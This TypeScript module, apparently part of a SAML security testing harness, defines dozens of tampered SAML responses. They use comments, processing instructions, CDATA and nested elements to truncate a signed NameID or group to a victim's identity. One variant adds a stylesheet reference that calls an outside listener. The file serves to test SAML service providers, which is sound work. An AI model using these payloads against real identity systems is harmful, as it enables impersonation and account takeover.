import { replaced } from './edits'
import { attacker, type Kit, signedAssertion, tampered, type Variants, victim } from './variant'

/** The provider vouches for a name that begins with the victim's, and the attacker cuts it there. */
const longer = { nameId: `${victim.nameId}.mallory`, groups: [`${victim.group}.mallory`] } as const

/** Something that a careless reader takes for the end of the text, put into a finished answer. */
function cutting(separator: string, which: keyof typeof victim): (kit: Kit) => string {
  const name = victim[which]
  return (kit) => replaced(`>${name}.mallory<`, `>${name}${separator}.mallory<`)(kit.answer(longer))
}

/** What comes behind the separator was text when it was signed: readers that take an instruction for text do not see the change. */
function hiding(markup: (rest: string) => string, which: keyof typeof victim): (kit: Kit) => string {
  const name = victim[which]
  return (kit) => replaced(`>${name}.mallory<`, `>${name}${markup('.mallory')}<`)(kit.answer(longer))
}

export const comments: Variants = {
  'comment-nameid': cutting('<!---->', 'nameId'),
  'comment-nameid-text': cutting('<!-- x -->', 'nameId'),
  'comment-group': cutting('<!---->', 'group'),
  'comment-nameid-start': tampered(replaced(`>${attacker.nameId}<`, `><!-- -->${attacker.nameId}<`)),
  'comment-nameid-end': tampered(replaced(`>${attacker.nameId}<`, `>${attacker.nameId}<!-- --><`)),
  'comment-issuer': tampered(replaced('</saml:Issuer>', '<!-- --></saml:Issuer>')),
  'comment-audience': tampered(replaced('</saml:Audience>', '<!-- --></saml:Audience>')),
  'comment-between-elements': tampered(replaced('<saml:Subject>', '<!-- --><saml:Subject>')),
  'comment-in-response': tampered(replaced('<samlp:Status>', '<!-- --><samlp:Status>')),
  'comment-before-root': tampered((xml) => `<!-- -->${xml}`),
  'comment-after-root': tampered((xml) => `${xml}<!-- -->`),
  'comment-in-signaturevalue': tampered(replaced('</ds:SignatureValue>', '<!-- --></ds:SignatureValue>')),
  'comment-with-assertion': tampered((xml) => `${xml}<!--${xml}-->`),
  'comment-open': tampered(replaced('</samlp:Response>', '<!-- </samlp:Response>')),
}

export const instructions: Variants = {
  'pi-nameid': cutting('<?x?>', 'nameId'),
  'pi-nameid-data': cutting('<?x y?>', 'nameId'),
  'pi-nameid-as-text': hiding((rest) => `<?${rest.slice(1)}?>`, 'nameId'),
  'pi-nameid-data-as-text': hiding((rest) => `<?x ${rest}?>`, 'nameId'),
  'pi-group': cutting('<?x?>', 'group'),
  'pi-group-as-text': hiding((rest) => `<?x ${rest}?>`, 'group'),
  'pi-empty': tampered(replaced(`>${attacker.nameId}<`, `><?x?>${attacker.nameId}<`)),
  'pi-between-elements': tampered(replaced('<saml:Subject>', '<?x?><saml:Subject>')),
  'pi-before-root': tampered((xml) => `<?x?>${xml}`),
  'pi-after-root': tampered((xml) => `${xml}<?x?>`),
  'pi-xml-declaration-inside': tampered(replaced('<saml:Subject>', '<?xml version="1.0"?><saml:Subject>')),
  'pi-two-declarations': tampered((xml) => `<?xml version="1.0"?><?xml version="1.0"?>${xml}`),
  'pi-stylesheet': (kit) => `<?xml-stylesheet type="text/xsl" href="${kit.listener}/style"?>${kit.answer()}`,
  'pi-in-signaturevalue': tampered(replaced('</ds:SignatureValue>', '<?x?></ds:SignatureValue>')),
}

export const sections: Variants = {
  'cdata-nameid': tampered(replaced(`>${attacker.nameId}<`, `><![CDATA[${attacker.nameId}]]><`)),
  'cdata-nameid-split': cutting('<![CDATA[]]>', 'nameId'),
  'cdata-nameid-rest': hiding((rest) => `<![CDATA[${rest}]]>`, 'nameId'),
  'cdata-group': tampered(replaced(`>${attacker.group}<`, `><![CDATA[${attacker.group}]]><`)),
  'cdata-group-rest': hiding((rest) => `<![CDATA[${rest}]]>`, 'group'),
  'cdata-markup': tampered(replaced('<saml:Subject>', '<![CDATA[<saml:Subject>]]><saml:Subject>')),
  'cdata-in-signaturevalue': tampered(replaced('</ds:SignatureValue>', '<![CDATA[ ]]></ds:SignatureValue>')),
  'cdata-end-in-text': signedAssertion(replaced(`>${attacker.nameId}<`, `>${attacker.nameId}]]><`)),
}

/** Elements and references within a text, signed by the provider: there is no one way to read them. */
export const nested: Variants = {
  'element-in-nameid': signedAssertion(
    replaced(`>${attacker.nameId}<`, `>${victim.nameId}<x xmlns="urn:x"/>.mallory<`),
  ),
  'element-around-nameid': signedAssertion(
    replaced(`>${attacker.nameId}<`, `><x xmlns="urn:x">${attacker.nameId}</x>${victim.nameId}<`),
  ),
  'element-in-group': signedAssertion(replaced(`>${attacker.group}<`, `>${victim.group}<x xmlns="urn:x"/>.mallory<`)),
  'element-in-issuer': signedAssertion(replaced('</saml:Issuer>', '<x xmlns="urn:x"/></saml:Issuer>')),
  'element-in-audience': signedAssertion(replaced('</saml:Audience>', '<x xmlns="urn:x"/></saml:Audience>')),
  'reference-null': tampered(replaced(`>${attacker.nameId}<`, `>${attacker.nameId}&#0;<`)),
  'reference-surrogate': tampered(replaced(`>${attacker.nameId}<`, `>${attacker.nameId}&#xD800;<`)),
  'reference-beyond-unicode': tampered(replaced(`>${attacker.nameId}<`, `>${attacker.nameId}&#x110000;<`)),
  'reference-unknown': tampered(replaced(`>${attacker.nameId}<`, `>${attacker.nameId}&nbsp;<`)),
  'reference-open': tampered(replaced(`>${attacker.nameId}<`, `>${attacker.nameId}&<`)),
  'character-null': tampered(replaced(`>${attacker.nameId}<`, `>${attacker.nameId}\u0000<`)),
  'character-escape': tampered(replaced(`>${attacker.nameId}<`, `>${attacker.nameId}\u001b<`)),
}
